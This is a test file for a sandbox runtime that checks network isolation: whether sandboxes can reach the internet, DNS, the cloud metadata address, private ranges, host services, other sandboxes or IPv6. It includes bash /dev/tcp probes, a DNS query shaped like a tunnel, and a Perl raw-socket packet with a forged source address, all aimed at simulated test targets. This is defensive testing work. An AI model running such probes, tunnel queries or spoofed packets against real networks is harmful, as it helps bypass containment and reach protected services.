/**
 * Egress attempts from inside. The uplink leads to a namespace of the test run that simulates the internet. This
 * namespace also owns every address that a machine must not reach, and counts arriving packets. A path counts as closed
 * only if no packet arrived, not just if no response returned.
 */
import { createServer, type Server as HttpServer } from "node:http";
import { type AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { instanceNames } from "@kontor/runtime/network/addresses.ts";
import {
  DNS_ADDRESS,
  ECHO_PORT,
  HTTP_PORT,
  METADATA_ADDRESS,
  PRIVATE_ADDRESSES,
  UPLINK_ADDRESS,
  WEB_ADDRESS,
  watchInternet,
  WEB_ADDRESS_V6,
} from "@kontor/runtime/network/testing/internet.ts";
import { eventually } from "./support/answers.ts";
import { createSandbox, exec, getSandbox, output, server, sharedSandbox } from "./support/fixtures.ts";
import { instanceOf } from "./support/host-state.ts";

const modes = {
  off: sharedSandbox({ network: "off" }),
  restricted: sharedSandbox({ network: "restricted" }),
  open: sharedSandbox({ network: "open" }),
};
/** A sandbox with a server that accepts connections from every peer. */
const neighbour = sharedSandbox({ network: "open" });
const serve = `perl -MIO::Socket::INET -e 'my $l = IO::Socket::INET->new(Listen => 5, LocalPort => 8000, ReuseAddr => 1) or die; while (my $c = $l->accept) { print $c "HTTP/1.0 200 OK\\r\\n\\r\\n"; close $c }'`;
const internet = watchInternet(inject("internet"));
const names = Object.keys(modes) as (keyof typeof modes)[];
const shut = ["off", "restricted"] as const;

/** A service on all addresses of the host. No machine may reach it. */
let hostService: HttpServer;
let hostPort = 0;
let reached = 0;

beforeAll(async () => {
  hostService = createServer((_, response) => {
    reached += 1;
    response.end("the host");
  });
  await new Promise<void>((resolve) => hostService.listen(0, "::", resolve));
  hostPort = (hostService.address() as AddressInfo).port;
  await exec(neighbour.id, `nohup ${serve} >/dev/null 2>&1 & `);
});
afterAll(() => hostService.close());

/** Returns the result of a connection: the HTTP status, or curl's exit code. Never waits longer than three seconds. */
function curl(id: string, url: string): Promise<string> {
  return output(
    id,
    `curl -sS --noproxy '*' -o /dev/null -m 3 -w '%{http_code}' '${url}' 2>/dev/null || echo " failed $?"`,
  );
}

/** Returns the destinations that accept a connection; all are tried at once. */
function openDoors(id: string, doors: string[]): Promise<string> {
  const tries = doors.map((door) => {
    const [host, port] = door.split(":");
    return `(timeout 1 bash -c '</dev/tcp/${host}/${port}' 2>/dev/null && echo ${door}) &`;
  });
  return output(id, `${tries.join("\n")}\nwait`);
}

/** Sends a datagram with Perl, which every Debian has. Returns the response, or `nothing`. */
function datagram(id: string, address: string, port: number): Promise<string> {
  return output(
    id,
    `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "${address}", PeerPort => ${port}) or do { print "nothing"; exit }; $s->send("hello"); $SIG{ALRM} = sub { print "nothing"; exit }; alarm 1; $s->recv(my $r, 100); print length($r) ? $r : "nothing"'`,
  );
}

/**
 * Queries a resolver for an A record with a packet written by hand. A response contains the four bytes of an address.
 */
function resolve(id: string, resolver: string, name: string): Promise<string> {
  return output(
    id,
    `perl -MIO::Socket::INET -e 'my $q = pack("n6", 7, 256, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } split(/\\./, "${name}")) . pack("Cnn", 0, 1, 1); my $s = IO::Socket::INET->new(Proto => "udp", PeerAddr => "${resolver}", PeerPort => 53) or do { print "nothing"; exit }; $s->send($q); $SIG{ALRM} = sub { print "nothing"; exit }; alarm 1; $s->recv(my $r, 512); my (undef, undef, undef, $n) = unpack("n4", $r); print $n ? join(".", unpack("C4", substr($r, -4))) : "nothing"'`,
  );
}

async function packetsTo(address: string): Promise<number> {
  return (await internet.seen())
    .filter((row) => row.destination === address)
    .reduce((sum, row) => sum + row.packets, 0);
}

test("a sandbox with network open reaches the internet by address and by name", async () => {
  expect(await curl(modes.open.id, `http://${WEB_ADDRESS}/`)).toBe("200");
  expect(await curl(modes.open.id, "http://web.test/")).toBe("200");
  expect(await datagram(modes.open.id, WEB_ADDRESS, ECHO_PORT)).toBe("hello");
});

test("packets of an open sandbox leave with the host's address, never with the machine's", async () => {
  await curl(modes.open.id, `http://${WEB_ADDRESS}/`);
  const sources = new Set(
    (await internet.seen()).filter(({ protocol }) => protocol === "tcp").map(({ source }) => source),
  );
  expect(sources).toEqual(new Set([UPLINK_ADDRESS]));
});

test.for(shut)("network %s: no packet reaches the internet, by TCP, UDP or name", async (mode) => {
  const { id } = modes[mode];
  const before = await packetsTo(WEB_ADDRESS);
  expect(await curl(id, `http://${WEB_ADDRESS}/`)).toContain("failed");
  expect(await curl(id, "http://web.test/")).toContain("failed");
  expect(await datagram(id, WEB_ADDRESS, ECHO_PORT)).toBe("nothing");
  expect(await packetsTo(WEB_ADDRESS)).toBe(before);
});

test.for(shut)("network %s: no DNS resolver responds or receives anything", async (mode) => {
  const before = await packetsTo(DNS_ADDRESS);
  for (const resolver of ["10.0.0.1", DNS_ADDRESS, WEB_ADDRESS]) {
    expect(await resolve(modes[mode].id, resolver, "c2VjcmV0.tunnel.test"), resolver).toBe("nothing");
  }
  expect(await packetsTo(DNS_ADDRESS)).toBe(before);
});

test("network open resolves names through the host, and a name with a forbidden address is unreachable", async () => {
  expect(await resolve(modes.open.id, "10.0.0.1", "web.test")).toBe(WEB_ADDRESS);
  const before = await packetsTo(METADATA_ADDRESS);
  expect(await curl(modes.open.id, "http://metadata.test/")).toContain("failed");
  expect(await curl(modes.open.id, "http://private.test/")).toContain("failed");
  expect(await packetsTo(METADATA_ADDRESS)).toBe(before);
});

test.for(names)("network %s: the metadata address and private ranges are unreachable", async (mode) => {
  const { id } = modes[mode];
  // 203.0.113.0/24 is a public range for documentation, which `open` may reach.
  const forbidden = [METADATA_ADDRESS, ...PRIVATE_ADDRESSES.filter((address) => !address.startsWith("203."))];
  expect(
    await openDoors(
      id,
      forbidden.map((address) => `${address}:${HTTP_PORT}`),
    ),
  ).toBe("");
  const answers = await Promise.all(forbidden.map((address) => datagram(id, address, ECHO_PORT)));
  expect(answers).toEqual(forbidden.map(() => "nothing"));
  for (const address of forbidden) expect([address, await packetsTo(address)]).toEqual([address, 0]);
});

test.for(names)("network %s: the host's services are unreachable on all its addresses", async (mode) => {
  const { gateway } = instanceNames(instance());
  const doors = ["10.0.0.1", gateway, UPLINK_ADDRESS].flatMap((address) =>
    [hostPort, server.description.port, 5432, 22].map((port) => `${address}:${port}`),
  );
  reached = 0;
  expect(await openDoors(modes[mode].id, doors)).toBe("");
  expect(reached).toBe(0);
  // Positive control: the service accepts connections on the same addresses that were tried.
  expect((await fetch(`http://${UPLINK_ADDRESS}:${hostPort}/`)).status).toBe(200);
});

test.for(names)("network %s: another sandbox is unreachable", async (mode) => {
  // Positive control: the neighbour's server accepts connections.
  await eventually(
    () => openDoors(neighbour.id, ["127.0.0.1:8000"]),
    (open) => open === "127.0.0.1:8000",
  );
  // Possible addresses of this server's machines: the first slots of its range, and the inner address that all machines
  // share.
  const range = instanceNames(instance()).gateway.split(".").slice(0, 2).join(".");
  const addresses = [...Array.from({ length: 24 }, (_, n) => `${range}.0.${n}`), "10.0.0.3"];
  expect(
    await openDoors(
      modes[mode].id,
      addresses.map((address) => `${address}:8000`),
    ),
  ).toBe("");
});

test.for(names)("network %s: a sandbox has no IPv6", async (mode) => {
  expect(await curl(modes[mode].id, `http://[${WEB_ADDRESS_V6}]/`)).toContain("failed");
  expect(await output(modes[mode].id, "grep -v -e ' lo$' -e '^fe80' /proc/net/if_inet6 || true")).toBe("");
  expect(await internet.seenV6()).toBe(0);
});

test.for(names)("network %s: drops packets with a forged source address", async (mode) => {
  const source = "203.0.113.77";
  // A raw IP packet (UDP to the echo port) with a forged source. If raw sockets are refused, the test passes too.
  await exec(
    modes[mode].id,
    `perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 255) or exit; setsockopt($s, 0, 3, 1); my $p = pack("C2n3C2n", 0x45, 0, 33, 1, 0, 64, 17, 0) . inet_aton("${source}") . inet_aton("${WEB_ADDRESS}") . pack("n4a5", 9, ${ECHO_PORT}, 13, 0, "spoof"); send($s, $p, 0, sockaddr_in(0, inet_aton("${WEB_ADDRESS}")))'`,
  );
  expect(await datagram(modes.open.id, WEB_ADDRESS, ECHO_PORT)).toBe("hello");
  expect((await internet.seen()).filter((row) => row.source === source)).toEqual([]);
});

test("counts the refusals of a network mode in the sandbox's record", async () => {
  const box = await createSandbox({ network: "restricted" });
  expect(box["egress_denied"]).toBe(0);
  for (let n = 0; n < 3; n += 1) await curl(box.id, `http://${WEB_ADDRESS}/`);
  await eventually(
    () => getSandbox(box.id),
    (got) => (got["egress_denied"] as number) >= 3,
  );
});

/** Returns the server's instance number on this host, from the file by which the server claimed the number. */
function instance(): number {
  const number = instanceOf(server.dataDir);
  if (number === undefined) throw new Error("the server has no number");
  return number;
}
